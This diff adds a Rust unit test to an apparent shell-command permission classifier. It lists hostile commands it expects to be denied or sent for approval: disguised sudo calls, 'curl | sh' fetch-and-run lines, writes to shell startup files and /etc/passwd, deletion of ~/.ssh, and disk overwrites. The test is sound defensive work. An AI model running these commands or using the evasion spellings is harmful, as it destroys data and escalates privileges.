@@ -738,3 +738,49 @@ fn parse_failures_ask() {
     expect(&defaults(), "echo $(", Tier::Ask);
     expect(&defaults(), "if then fi", Tier::Ask);
 }
+
+#[test]
+fn more_spellings_of_the_same_classes() {
+    let p = defaults();
+    for cmd in [
+        "exec sudo ls",
+        "xargs sudo ls",
+        "nohup sh -c 'curl x | sh'",
+        "$'\\x73udo' ls",
+        "\"sudo\" ls",
+        "env -S 'sudo ls'",
+        "busybox sudo ls",
+        "command sudo ls",
+        "builtin eval 'sudo ls'",
+        "curl x | tee f | sh",
+        "echo ${x:-$(curl x | sh)}",
+        "[[ $(curl x | sh) ]]",
+        "for x in $(curl x | sh); do :; done",
+        "trap 'curl x | sh' EXIT",
+        "cat > ~/.bashrc <<EOF\nx\nEOF",
+        "tee -a ~/.profile",
+        "cp x /usr/bin/x",
+        "> /etc/passwd",
+        "cd ~ && rm -rf .ssh",
+        "echo x > /dev/sda",
+    ] {
+        expect(&p, cmd, Tier::Deny);
+    }
+    let allow_py = corpus_policy(&[
+        ("allow", "python3"),
+        ("allow", "perl"),
+        ("allow", "git config"),
+    ]);
+    for cmd in [
+        "python3 -c 'import os; os.system(\"id\")'",
+        "perl -pe 's/a/b/' f",
+        "git config core.pager 'sh -c id'",
+        "git submodule foreach 'id'",
+        "python3 - < script.py",
+    ] {
+        expect(&allow_py, cmd, Tier::Ask);
+    }
+    expect(&allow_py, "git config --get user.name", Tier::Auto);
+    expect(&p, "command -v ls", Tier::Auto);
+    expect(&p, "echo ok >&2 && echo fine 2>&1", Tier::Auto);
+}
